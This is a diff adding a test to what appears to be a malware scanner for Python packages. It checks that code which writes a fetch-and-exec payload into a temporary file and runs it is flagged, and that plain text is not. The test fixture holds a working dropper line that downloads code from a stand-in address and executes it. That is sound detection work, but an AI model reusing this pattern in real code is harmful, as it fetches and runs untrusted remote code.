@@ -298,3 +298,21 @@ test('setup.py running python -c "import pkg.post; pkg.post.run()" makes that fu
   assert.equal(ruleOf(local, 'drop-and-run'), undefined);
   assert.equal(ruleOf(local, 'download-execute'), undefined);
 });
+
+test('Python code written into a file to be run later is analysed as its own file', () => {
+  const reports = analyzePythonFile(
+    'demo/mod.py',
+    new TextEncoder().encode(
+      'import os, sys, tempfile\ndef get():\n    t = tempfile.NamedTemporaryFile(delete=False)\n    t.write(b"from urllib.request import urlopen;exec(urlopen(\'http://192.0.2.8/x\').read())")\n    t.close()\n    os.system(f"{sys.executable} {t.name}")\n',
+    ),
+  );
+  assert.equal(reports[0].findings.find((f) => f.rule === 'python-code-written')?.severity, 'info');
+  const payload = reports.find((report) => report.path === 'demo/mod.py#decoded-1');
+  assert.ok(payload?.findings.some((f) => f.rule === 'download-execute' && ['high', 'critical'].includes(f.severity)));
+  // plain text written to a file is not code
+  const notes = analyzePythonFile(
+    'demo/notes.py',
+    new TextEncoder().encode('def save(f):\n    f.write("remember to import the data before the meeting")\n'),
+  );
+  assert.equal(notes.length, 1);
+});
